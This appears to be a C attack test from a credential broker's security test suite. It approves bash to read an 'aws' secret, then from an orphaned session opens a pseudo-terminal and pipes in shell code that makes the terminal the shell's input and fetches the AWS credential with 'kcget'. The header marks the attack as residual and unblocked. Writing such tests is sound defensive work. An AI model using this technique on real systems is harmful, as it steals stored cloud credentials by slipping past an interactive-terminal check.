/* SPDX-License-Identifier: MIT */
/*
 * attack: pipes code into an approved shell, and the code makes a terminal the shell's input
 * expects: released
 * control: none
 * kind: residual
 * removed-by: an entry with "interactive": false; confirmation, system mode
 * cost: -
 * needs: first-process
 *
 * What a shell reads from now is seen, and not where it had its last command from.
 */
#define _GNU_SOURCE
#include "tests/attacks/support/attack.h"
#include "tests/attacks/support/attack_orphan.h"

#include <fcntl.h>
#include <stddef.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* Read whole before it is run. */
static const char code[] = "{ exec <&2; kcget aws prize; exit; }\n";

/* The leader of a session without a terminal gets the one that it opens. */
static int open_terminal(void) {
    int master = posix_openpt(O_RDWR | O_NOCTTY);
    if (master < 0 || grantpt(master) != 0 || unlockpt(master) != 0) {
        attack_die("posix_openpt");
    }
    int terminal = open(ptsname(master), O_RDWR); /* the master stays open as long as the shell */
    if (terminal < 0) {
        attack_die("a terminal");
    }
    return terminal;
}

static void live(void) {
    const char *const call[] = {"bash", NULL};
    int input[2];
    if (dup2(open_terminal(), STDERR_FILENO) < 0 || pipe2(input, O_CLOEXEC) != 0 ||
        write(input[1], code, strlen(code)) != (ssize_t)strlen(code) ||
        dup2(input[0], STDIN_FILENO) < 0) {
        attack_die("a pipe");
    }
    attack_execute(call);
}

int main(void) {
    const char *const approve[] = {"keychain-auth", "register",       "/bin/bash", "--read",
                                   "aws",           "--session-root", NULL};
    attack_as_the_user(approve);
    attack_from_an_orphan(live);
}
